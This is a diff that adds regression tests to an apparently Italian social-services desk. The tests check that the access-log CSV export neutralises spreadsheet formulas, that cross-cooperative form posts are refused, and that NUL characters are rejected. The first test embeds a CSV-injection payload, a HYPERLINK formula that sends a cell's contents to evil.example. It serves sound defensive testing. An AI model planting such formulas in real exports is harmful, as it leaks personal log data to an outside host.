@@ -16,6 +16,7 @@ import sys
 from collections.abc import AsyncIterator, Callable
 from datetime import timedelta
 from typing import Any
+from urllib.parse import quote
 
 import asyncpg
 import httpx
@@ -287,6 +288,106 @@ async def test_the_access_log_export_reads_in_the_dpos_language(desk: Desk) -> N
     assert rows[2][0].startswith(clock.today().isoformat()[:4])  # ISO time, sortable
     english = list(csv.reader(io.StringIO((await desk.client.get("/access-log.csv?lang=en")).text)))
     assert english[0] == ["When", "Operator", "Account", "Person", "Purpose", "Action", "Outcome"], english[0]
+
+
+async def test_the_access_log_csv_never_holds_a_formula_a_partner_wrote(desk: Desk) -> None:
+    """A person's id is the partner's choice (intake takes 1-64 characters): a Torino partner registered
+    `=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"Apri")`, a cooperative's operator tried its cartella,
+    and the DPO's export held the formula as a cell, which a spreadsheet runs on opening (a link sending the log's
+    cells away; `=cmd|…` on older Excel). Every text cell that a spreadsheet would read as a formula is exported as
+    text (OWASP's "CSV injection": a leading `'`); the page shows the id as it is."""
+    formula = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"Apri")'
+    aurora = Operator("aurora", "Operatrice Aurora", OperatorRole.PARTNER, "torino", "coop-aurora")
+    refusal = {"status": 403, "field": "person_id", "reason": "not a person of your cases"}
+    ids = (formula, "+1+1", "-2+3", "@SUM(1)", "\tx", "p-1")
+    for pid in ids:
+        desk.services.answers[("intake", "GET", f"/persons/{pid}/record")] = httpx.Response(403, json=refusal)
+    await desk.as_operator(aurora)
+    for pid in ids:
+        tried = await desk.client.get("/persons/" + quote(pid, safe=""))
+        assert tried.status_code == 403, tried.text
+    await desk.as_operator(RPD)
+    exported = await desk.client.get("/access-log.csv")
+    cells = [row[2] for row in csv.reader(io.StringIO(exported.text))][1:]
+    assert sorted(cells) == sorted(["'" + formula, "'+1+1", "'-2+3", "'@SUM(1)", "'\tx", "p-1"]), cells
+    page = await desk.client.get("/access-log")
+    assert formula in text_of(page.text)  # the page itself shows the id as stored
+
+
+async def test_a_form_sent_on_a_person_the_operator_may_not_see_is_refused_not_a_server_error(desk: Desk) -> None:
+    """A cooperative's operator posted the cartella's forms with another cooperative's person in the address (a note, a
+    consent, a contribution with that cooperative's case in the hidden field): intake and payments refused (403), the
+    desk then drew the cartella again to show the refusal at its field, intake refused that too, and the desk answered
+    500 (the running desk reset the connection). The refusal is the desk's "access denied" page (403), the attempt in
+    the access log, as when the cartella is opened."""
+    refusal = {"status": 403, "field": "person_id", "reason": "no case of this person is assigned to this partner"}
+    case_refusal = {"status": 403, "field": "case_id", "reason": "the case is not assigned to this partner"}
+    desk.services.answers |= {
+        ("intake", "GET", "/persons/p-borgo/record"): httpx.Response(403, json=refusal),
+        ("intake", "POST", "/persons/p-borgo/notes"): httpx.Response(403, json=refusal),
+        ("intake", "POST", "/consents"): httpx.Response(403, json=refusal),
+        ("payments", "POST", "/contribution-requests"): httpx.Response(403, json=case_refusal),
+    }
+    await desk.as_operator(LUCA)
+    for form, data in (
+        ("notes", {"text": "x"}),
+        ("consents", {"purpose": "partner_sharing", "decision": "granted", "recorded_on": "2026-12-01"}),
+        ("contributions", {"case_id": "c-borgo", "kind": "deposit", "amount": "100"}),
+    ):
+        sent = await desk.client.post(f"/persons/p-borgo/{form}", data={"csrf": "csrf-luca", **data})
+        assert sent.status_code == 403, (form, sent.status_code, sent.text)
+        assert "Non può vedere i dati di questa persona" in text_of(sent.text), text_of(sent.text)
+    async with desk.pool.acquire() as conn:
+        logged = await conn.fetch("select outcome from access_log where person_id = 'p-borgo' and operator = 'luca'")
+    assert [r["outcome"] for r in logged] == ["denied"] * 3
+
+
+async def test_a_form_with_its_hidden_id_taken_out_is_refused_not_a_server_error(desk: Desk) -> None:
+    """The link of a street contact to a person, posted with its hidden `outing_id` taken out (and no day): intake
+    refused the link (422), the desk drew the outing's page again for `/outings/`, which intake's router answers with
+    a redirect to its list of outings (307, as FastAPI redirects a trailing slash): the desk took the redirect for the
+    outing, and the template failed on it ('None' has no attribute 'start_time'): 500, for staff and cooperatives
+    alike. A service's redirect is not an answer the desk asked for: it is refused as not found (404)."""
+    desk.services.answers |= {
+        ("intake", "POST", "/street-contacts/ct-x/link"): httpx.Response(
+            422, json={"status": 422, "field": "linked_on", "reason": "Field required"}
+        ),
+        ("intake", "GET", "/outings/"): httpx.Response(307, headers={"location": "http://127.0.0.1:8001/outings"}),
+    }
+    await desk.as_operator(LUCA)
+    sent = await desk.client.post("/outreach/contacts/ct-x/link", data={"csrf": "csrf-luca", "person_id": "p-1"})
+    assert sent.status_code == 404, (sent.status_code, sent.text)
+    assert "Non trovato Il servizio ha rifiutato: il servizio non ha questo indirizzo." in text_of(sent.text)
+
+
+async def test_a_nul_character_in_an_address_or_a_form_is_refused_not_a_server_error(desk: Desk) -> None:
+    """The services refuse text PostgreSQL cannot store (NUL) with a 422; the desk wrote it into its own tables and
+    answered 500: a cartella's address `/persons/a%00b` (the access log's entry), the DPO's filter
+    `/access-log?person_id=a%00b`, a login's user name, an appointment's operator. Each is the desk's page saying
+    the request holds a character that cannot be recorded (422), and nothing of it is written."""
+    desk.services.answers[("intake", "GET", "/persons/a\x00b/record")] = httpx.Response(
+        422, json={"status": 422, "field": "path.person_id", "reason": "must not contain the NUL character"}
+    )
+    said = "L'indirizzo o il modulo contiene un carattere che non si può registrare."
+    await desk.as_operator(MARIA)
+    for sent in (
+        await desk.client.get("/persons/a%00b"),
+        await desk.client.get("/persons/p-1/documents/d%001"),
+        await desk.client.post("/agenda", data={"csrf": "csrf-maria", "operator": "a\x00b", "day": "2030-01-07"}),
+    ):
+        assert sent.status_code == 422 and said in text_of(sent.text), (sent.status_code, sent.text)
+    await desk.as_operator(RPD)
+    for path in ("/access-log?person_id=a%00b", "/access-log.csv?person_id=a%00b", "/access-log/subject/a%00b"):
+        sent = await desk.client.get(path)
+        assert sent.status_code == 422 and said in text_of(sent.text), (path, sent.status_code, sent.text)
+    desk.client.cookies.clear()
+    form = await desk.client.get("/login")
+    token = re.search(r'name="csrf" value="([^"]+)"', form.text)
+    assert token is not None
+    sent = await desk.client.post("/login", data={"csrf": token.group(1), "username": "a\x00b", "password": "x"})
+    assert sent.status_code == 422 and said in text_of(sent.text), (sent.status_code, sent.text)
+    async with desk.pool.acquire() as conn:
+        assert await conn.fetchval("select count(*) from access_log where person_id like 'a%'") == 0
 
 
 def agenda_services(services: FakeServices) -> list[dict[str, Any]]:
